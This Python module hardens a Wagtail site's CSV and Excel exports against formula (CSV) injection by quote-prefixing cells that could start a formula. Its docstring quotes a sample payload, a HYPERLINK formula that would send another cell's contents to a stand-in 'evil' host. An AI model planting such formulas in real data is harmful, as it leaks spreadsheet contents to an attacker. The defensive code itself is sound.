"""Spreadsheet exports without formula injection (CSV injection).

The loan desk, the working group's reports and the loan form's submissions are exported to CSV
and Excel with Wagtail's SpreadsheetExportMixin, which writes every value straight through.
Their text comes from residents via the public loan form: a resident named
`=HYPERLINK("http://evil"&C2,"Klik")` would reach the secretariat's spreadsheet as a live
formula that can leak the other cells or run commands (OWASP "CSV Injection").

So every export of the site goes through SafeSpreadsheetExportMixin here, in one place:

- CSV: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
  single quote in front (the OWASP advice); the spreadsheet shows it as text. Every text cell
  is quoted, so a ";" inside it (the separator of a Dutch Excel) cannot start a new cell.
- XLSX: such a cell keeps its text but is stored as a string with Excel's "quote prefix", so
  it is never a formula, not even after editing the cell (openpyxl would otherwise store a
  string starting with `=` as a formula).

Numbers, dates and empty cells stay as they are. Column headings are neutralised too (form
field labels are typed by editors).

Views use it by listing the mixin before the Wagtail view: the desk's index view, the reports'
base view, and form pages whose get_submissions_list_view_class() returns SafeSubmissionsListView
(a class attribute would import Wagtail's admin views while the models are still loading).
"""

from __future__ import annotations

import csv
import datetime
from decimal import Decimal

from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin
from wagtail.contrib.forms.views import SubmissionsListView

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Values a spreadsheet reads as numbers, dates or an empty cell: never a formula.
PLAIN_TYPES = (int, float, Decimal, datetime.date, datetime.time, type(None))


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise(value):
    """A CSV cell value that no spreadsheet reads as a formula; other values unchanged."""
    if isinstance(value, PLAIN_TYPES):
        return value
    text = str(value)
    return f"'{text}" if is_formula_like(text) else text


def store_as_text(cell):
    """An openpyxl cell whose text would start a formula, stored as a quote-prefixed string."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


class SafeSpreadsheetExportMixin(SpreadsheetExportMixin):
    """SpreadsheetExportMixin whose CSV and XLSX cells are never formulas (see above)."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return neutralise(value)
        return value

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            yield store_as_text(cell)

    def get_heading(self, queryset, field):
        return neutralise(super().get_heading(queryset, field))

    def stream_csv(self, queryset):
        """As Wagtail's, with every text cell in quotes: Excel with Dutch settings splits a
        CSV file on ";", so an unquoted "doel;=1+1" would become a cell "=1+1"."""
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, quoting=csv.QUOTE_NONNUMERIC)
        yield writer.writerow(
            {field: self.get_heading(queryset, field) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))


class SafeSubmissionsListView(SafeSpreadsheetExportMixin, SubmissionsListView):
    """Wagtail's form submissions list with safe CSV/XLSX export."""
